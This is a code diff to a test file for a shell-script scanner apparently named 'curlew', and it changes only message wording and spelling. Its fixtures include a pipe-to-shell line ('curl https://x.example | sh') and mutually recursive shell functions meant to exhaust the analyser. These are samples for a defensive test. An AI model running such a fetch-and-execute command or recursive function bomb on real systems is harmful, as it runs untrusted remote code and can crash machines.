@@ -16,7 +16,7 @@ afterAll(() => {
 /** Functions that all call each other, so that the text is read in a child process: there it ends the process. */
 const DEADLY = ["a", "b", "c", "d"].map((name) => `${name}() {\n  a\n  b\n  c\n  d\n}\n`).join("");
 const BAD = "curl https://x.example | sh\n";
-const FAILED = "analysis failed: it needs more memory than a text may take (64 MB)";
+const FAILED = "analysis failed: it needs more memory than a text may use (64 MB)";
 
 const toolkit: NonNullable<Given["toolkit"]> = {
   createDetector: async () => standIn,
@@ -30,8 +30,8 @@ describe("a text whose analysis ends its process", () => {
   it("costs a scan of a folder no other file, and is reported with status 2", async () => {
     const cwd = folderWith({ "a.sh": DEADLY, "b.sh": BAD });
     const { status, stdout, stderr } = await runHere(["scan", "."], { cwd, toolkit });
-    expect(stdout).toContain(`a.sh:1:1: not fully analysed (failed) ${FAILED}\n`);
-    expect(stdout).toContain("1 finding in 1 of 2 texts (1 could not be analysed)");
+    expect(stdout).toContain(`a.sh:1:1: not fully analyzed (failed) ${FAILED}\n`);
+    expect(stdout).toContain("1 finding in 1 of 2 texts (1 could not be analyzed)");
     expect(stderr).toContain(`curlew: a.sh: ${FAILED}\n`);
     expect(status).toBe(2);
   });
